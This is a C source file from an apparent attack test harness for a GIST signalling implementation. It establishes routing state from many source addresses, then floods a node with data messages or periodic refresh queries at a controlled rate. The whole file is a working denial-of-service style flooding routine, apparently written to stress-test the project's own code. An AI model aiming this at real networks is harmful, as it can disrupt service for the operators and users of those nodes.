/* Messages without end on routing state that is confirmed; see established.h. */
#include "harness/attack/established.h"

#include "core/gist/transport.h"
#include "harness/attack/datagrams.h"
#include "harness/attack/message.h"

#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { INSIDERS_MAX = 256, PATIENCE_MS = 1000, REFRESH_EVERY_S = 2, SENT_BETWEEN_LOOKS = 32 };

/* One who has routing state: an address of its own, with one session. */
struct insider {
    struct attack own; /* what the attack is told, from this address alone */
    int descriptor;
    struct sockaddr_in node;
    uint8_t query[ATTACK_DATAGRAM_MAX];
    size_t query_length;
    uint8_t response[ATTACK_DATAGRAM_MAX];
    size_t response_length; /* 0: none yet */
    uint32_t sequence_number;
    double refresh_at;
};

static void send_query(struct insider *insider)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(GIST_PORT)};
    memcpy(&to.sin_addr, insider->own.to.octets, sizeof(to.sin_addr));
    (void)!sendto(insider->descriptor, insider->query, insider->query_length, 0,
        (struct sockaddr *)&to, sizeof(to));
}

/* Confirms every Response that is there; the first brings its session. */
static void confirm_responses(struct insider *insider)
{
    uint8_t octets[2048], confirm[ATTACK_DATAGRAM_MAX];
    socklen_t length = sizeof(insider->node);
    ssize_t received;
    while ((received = recvfrom(insider->descriptor, octets, sizeof(octets), MSG_DONTWAIT,
                (struct sockaddr *)&insider->node, &length)) > 0) {
        insider->own.with_create = insider->response_length == 0;
        size_t confirmed = attack_confirm(&insider->own, octets, (size_t)received, confirm);
        if (confirmed == 0 || (size_t)received > sizeof(insider->response))
            continue;
        (void)!sendto(insider->descriptor, confirm, confirmed, 0, (struct sockaddr *)&insider->node,
            sizeof(insider->node));
        memcpy(insider->response, octets, (size_t)received);
        insider->response_length = (size_t)received;
    }
}

static bool get_in(const struct attack *attack, struct insider *insider, unsigned long number)
{
    struct pollfd readable;
    insider->own = *attack;
    insider->own.from = attack_source(attack, number);
    insider->own.from_count = 1;
    insider->sequence_number = 1;
    insider->descriptor = attack_socket(&insider->own);
    insider->query_length = attack_query(&insider->own, number, insider->query);
    if (insider->descriptor < 0)
        return false;
    readable = (struct pollfd){.fd = insider->descriptor, .events = POLLIN};
    send_query(insider);
    if (poll(&readable, 1, PATIENCE_MS) == 1)
        confirm_responses(insider);
    insider->refresh_at = attack_seconds() + REFRESH_EVERY_S;
    return insider->response_length > 0;
}

static void keep_in(struct insider *insider)
{
    confirm_responses(insider);
    if (attack_seconds() < insider->refresh_at)
        return;
    insider->refresh_at += REFRESH_EVERY_S;
    send_query(insider);
}

static void send_data(struct insider *insider)
{
    uint8_t data[ATTACK_DATAGRAM_MAX];
    size_t length = attack_data(&insider->own, insider->response, insider->response_length,
        ++insider->sequence_number, data);
    (void)!sendto(insider->descriptor, data, length, 0, (struct sockaddr *)&insider->node,
        sizeof(insider->node));
}

static int run(const struct attack *attack, void (*say)(struct insider *insider))
{
    static struct insider insiders[INSIDERS_MAX];
    unsigned long count = 0, sent = 0;
    for (unsigned long i = 0; i < attack->from_count && count < INSIDERS_MAX; i++)
        if (get_in(attack, &insiders[count], i))
            count++;
    printf("%lu of %u have routing state\n", count, attack->from_count);
    fflush(stdout);
    if (count == 0)
        return 1;
    double start = attack_seconds();
    while (attack->seconds == 0 || attack_seconds() < start + (double)attack->seconds) {
        struct insider *insider = &insiders[sent % count];
        if (sent / count % SENT_BETWEEN_LOOKS == 0)
            keep_in(insider);
        say(insider);
        attack_keep_pace(attack, ++sent, start);
    }
    printf("%lu messages in %.1f s\n", sent, attack_seconds() - start);
    return 0;
}

int attack_by_data(const struct attack *attack)
{
    return run(attack, send_data);
}

int attack_by_refreshes(const struct attack *attack)
{
    return run(attack, send_query);
}
